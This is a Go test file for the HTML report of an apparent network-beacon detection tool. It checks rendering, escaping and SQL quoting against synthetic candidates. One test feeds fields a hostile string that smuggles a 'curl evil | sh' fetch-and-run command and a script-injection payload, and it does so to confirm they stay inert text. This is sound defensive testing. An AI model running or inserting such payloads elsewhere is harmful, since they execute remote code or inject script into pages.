package report

import (
	"bytes"
	"encoding/xml"
	"errors"
	"fmt"
	"io"
	"maps"
	"math/rand/v2"
	"regexp"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/require"
)

// many is a report of so many beacons of so many check-ins each.
func many(candidates, checkins int) Data {
	r := rand.New(rand.NewPCG(1, 2))
	d := Data{Source: "host web-1", Version: "0.1.0", Generated: time.Unix(1_700_000_000, 0), Considered: 2 * candidates,
		Status: Row{"level": "L3", "blind": "Payloads that are encrypted are seen as sizes of ciphertext.", "max_gap_ms": "120"}, Codes: map[string]string{"regular_timing": "check-ins come at even intervals"}}
	for i := range candidates {
		c := Candidate{Row: Row{"scope": "destination", "severity": severities[i%4], "path": fmt.Sprintf("/usr/lib/vendor/agent-%d", i), "pid": fmt.Sprint(1000 + i),
			"cmdline": "/usr/lib/vendor/agent --config /etc/vendor/agent.yaml", "parent_path": "/usr/lib/systemd/systemd", "parent_cmdline": "/sbin/init",
			"remote_address": "198.51.100.7", "remote_port": "443", "destination_class": "public", "interval_ms": "60000", "jitter": "0.2",
			"size_bytes": "151", "size_spread": "0.05", "timing_share": "0.94", "timing_chance": "0.31", "size_share": "0.97", "beats": fmt.Sprint(checkins),
			"score": "0.998", "evidence": "51.221", "confidence": "0.98", "first_seen": "1700000000", "last_seen": "1700060000", "bytes_sent": "151000",
			"username": "vendor", "systemd_unit": "vendor-agent.service", "network_facing": "-1", "expected": "0", "quality": "exact", "resolution_ms": "1",
			"sha256":    "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
			"signature": fmt.Sprintf("/usr/lib/vendor/agent-%d tcp://198.51.100.7:443", i), "uid": "7", "parent": "3", "suspicions": "no_package=2", "reason_codes": "regular_timing,uniform_sizes",
			"reason": "94 % of 212 gaps within ±20 % of 60 s, 31 % by chance; 97 % of payloads 151 ± 3 bytes"}}
		at := int64(1_700_000_000_000)
		for range checkins {
			at += 48_000 + r.Int64N(24_000)
			c.Bursts = append(c.Bursts, Burst{At: at, Bytes: 148 + r.Uint64N(7)})
		}
		d.Candidates = append(d.Candidates, c)
	}
	return d
}

func written(t testing.TB, d Data) string {
	var b bytes.Buffer
	require.NoError(t, Write(&b, d))
	return b.String()
}

func TestReportTellsWhatTheRowsSay(t *testing.T) {
	page := written(t, many(4, 200))
	for _, text := range []string{"host web-1", "<b>1</b> high", "/usr/lib/vendor/agent-0", "94 % of 212 gaps", "198.51.100.7:443", "60 s ± 20 %", "151 B",
		"check-ins come at even intervals", "no_package</code> <span class=\"soft\">(weight 2)", "attack.mitre.org/techniques/T1030/", "beaconwatch.ext explain &#39;/usr/lib/vendor/agent-0 tcp://198.51.100.7:443&#39;",
		"31 % by chance", "200 check-ins in", "seen as sizes of ciphertext", "/usr/lib/systemd/systemd"} {
		require.True(t, strings.Contains(page, text), text)
	}
	require.Equal(t, 12, strings.Count(page, "<svg "), "timeline, intervals and sizes of four")
	require.True(t, strings.Contains(page, "var(--band)"), "the band is drawn")
}

// TestSummaryCountsWhatFoundNoRoom: a limit on the cards is none on the count.
func TestSummaryCountsWhatFoundNoRoom(t *testing.T) {
	d := many(4, 20)
	require.NotContains(t, written(t, d), "of them shown", "all are")
	d.Graded = map[string]int{"high": 528, "medium": 1}
	require.Contains(t, written(t, d), "<b>528</b> high, <b>1</b> medium, the first 4 of them shown")
}

func TestSummaryHasOneLineForAProgram(t *testing.T) {
	d := many(1, 20)
	for i := range 96 {
		row := maps.Clone(d.Candidates[0].Row)
		row["remote_address"] = fmt.Sprintf("203.0.113.%d", i)
		d.Candidates = append(d.Candidates, Candidate{Row: row})
	}
	page := written(t, d)
	require.Equal(t, 1, strings.Count(page, `<td class="severity high">`))
	require.Contains(t, page, "<summary>and 96 more</summary>")
	require.Contains(t, page, `<a href="#c97">203.0.113.95:443</a>`)
}

// TestCardDoesNotContradictItself: sizes that were seen are not unknown, and one count of check-ins is told, not four.
func TestCardDoesNotContradictItself(t *testing.T) {
	d := many(1, 97)
	d.Candidates[0].Row["quality"], d.Candidates[0].Row["beats"] = "inferred", "95"
	page := written(t, d)
	require.NotContains(t, page, "sizes are unknown")
	require.Contains(t, page, "97 bursts of sends, judged as 95 check-ins, in ")
	require.NotContains(t, page, "96 gaps")
	require.NotContains(t, page, "97 payloads")
	d.Candidates[0].Row["size_bytes"] = ""
	require.Contains(t, written(t, d), "sizes are unknown")
}

// TestBlindSpotsAreTheSensorsOwnWords, a sentence each.
func TestBlindSpotsAreTheSensorsOwnWords(t *testing.T) {
	d := many(1, 20)
	d.Status["blind"] = "UDP is not seen. Sizes (of all kinds, up to 1.5 MB) are not."
	require.Contains(t, written(t, d), "<li>UDP is not seen.</li><li>Sizes (of all kinds, up to 1.5 MB) are not.</li></ul>")
}

// TestStepsOfAProcessThatIsGone lead to what is there still.
func TestStepsOfAProcessThatIsGone(t *testing.T) {
	r := many(1, 20).Candidates[0].Row
	commands := func() (all string) {
		for _, s := range steps(r) {
			all += s.Command + "\n"
		}
		return all
	}
	require.Contains(t, commands(), "/proc/1000/exe")
	for column, value := range map[string]string{"exited": "1", "process_count": "20"} {
		r[column] = value
		require.NotContains(t, commands(), "1000", column)
		require.Contains(t, commands(), "/proc/3/exe", "its parent")
		require.Contains(t, commands(), "cp -p '/usr/lib/vendor/agent-0' evidence.exe")
		delete(r, column)
	}
	r["process_count"] = "2"
	require.Contains(t, commands(), "/proc/1000/exe", "one that was restarted is there")
	page := written(t, Data{Candidates: []Candidate{{Row: r}}})
	require.Contains(t, page, "<li>3 <code>/usr/lib/systemd/systemd</code>", "the parent has a PID")
}

// TestHistoryIsThatOfOneCandidate: of two scripts, or two ports, at one address each has its own.
func TestHistoryIsThatOfOneCandidate(t *testing.T) {
	r := Row{"path": "/usr/bin/python3", "uid": "7", "remote_address": "127.0.0.1", "signature": "/usr/bin/python3 /it's.py tcp://127.0.0.1:9997"}
	require.Equal(t, "path = '/usr/bin/python3' AND uid = 7 AND remote_address = '127.0.0.1' AND signature = '/usr/bin/python3 /it''s.py tcp://127.0.0.1:9997'", History(r))
	r["scope"], r["signature"], r["uid"] = "process", "/ünt *", "7 OR 1"
	require.Equal(t, "path = '/usr/bin/python3' AND substr(signature, 1, 5) = '/ünt '", History(r))
}

// TestABandIsSeenHoweverNarrow: bars do not hide it.
func TestABandIsSeenHoweverNarrow(t *testing.T) {
	values := make([]float64, 100)
	for i := range values {
		values[i] = 60_000
	}
	svg, err := histogram(values, 60_000, 0, func(float64) string { return "" })
	require.NoError(t, err)
	shapes := map[string][4]int{} // left, bottom, top, right
	for _, m := range regexp.MustCompile(`<path d="M(\d+),(\d+)L\d+,(\d+)L(\d+),[^"]*"[^>]*var\(--(bar|band)\)`).FindAllStringSubmatch(string(svg), -1) {
		var s [4]int
		for i := range s {
			s[i], err = strconv.Atoi(m[i+1])
			require.NoError(t, err)
		}
		shapes[m[5]] = s
	}
	require.Len(t, shapes, 2, svg)
	bar, band := shapes["bar"], shapes["band"]
	require.GreaterOrEqual(t, band[3]-band[0], 5, "wide enough")
	require.GreaterOrEqual(t, band[2]-bar[2], 8, "it stands above the bar")
}

func TestWordsAreExplained(t *testing.T) {
	page := written(t, many(1, 20))
	for _, word := range []string{"score", "evidence", "nat", "confidence"} {
		require.Contains(t, page, "<dt>"+word+"</dt>")
	}
}

func TestReportLoadsNothing(t *testing.T) {
	page := written(t, many(2, 50))
	require.NotRegexp(t, regexp.MustCompile(`(?i)<script|<link|<img|<iframe|@import|url\(|src=`), page)
	for _, link := range regexp.MustCompile(`https?://[^"' ]+`).FindAllString(page, -1) {
		require.True(t, strings.HasPrefix(link, "https://attack.mitre.org/"), link)
	}
}

func TestReportIsWellFormed(t *testing.T) {
	page := strings.Replace(written(t, many(3, 50)), "<!DOCTYPE html>", "", 1)
	in := xml.NewDecoder(strings.NewReader(page))
	in.Entity = xml.HTMLEntity
	for {
		_, err := in.Token()
		if errors.Is(err, io.EOF) {
			return
		}
		require.NoError(t, err)
	}
}

func TestWhatAnAttackerWroteStaysText(t *testing.T) {
	d := many(1, 20)
	evil := `/tmp/'; curl evil | sh #"><script>alert(1)</script>`
	for _, column := range []string{"path", "cmdline", "parent_path", "signature", "remote_hostname", "reason", "username", "systemd_unit", "script"} {
		d.Candidates[0].Row[column] = evil
	}
	d.Source = evil
	page := written(t, d)
	require.NotContains(t, page, "<script")
	require.Equal(t, `'/tmp/'\''; curl evil | sh #"><script>alert(1)</script>'`, quoted(evil), "one word for a shell")
	require.Equal(t, `'it''s'`, sqlQuoted("it's"))
}

func TestReportOfLittle(t *testing.T) {
	page := written(t, Data{Source: "conn.log", Considered: 7})
	require.Contains(t, page, "Nothing here sends with a rhythm")
	require.Contains(t, page, "hosts, not processes")
	odd := Data{Candidates: []Candidate{{Row: Row{}}, {Row: Row{"interval_ms": "-5", "jitter": "NaN", "size_bytes": "x"}, Bursts: []Burst{{5, 0}, {5, 0}, {3, 1 << 63}}}}}
	require.Contains(t, written(t, odd), "ungraded")
}

func TestReportOfManyIsSmall(t *testing.T) {
	page := written(t, many(500, 1000))
	require.Less(t, len(page), 5_000_000)
	t.Logf("500 candidates of 1000 check-ins: %.2f MB", float64(len(page))/1e6)
}

func BenchmarkWrite(b *testing.B) {
	d := many(500, 1000)
	b.ReportAllocs()
	for b.Loop() {
		require.NoError(b, Write(io.Discard, d))
	}
}
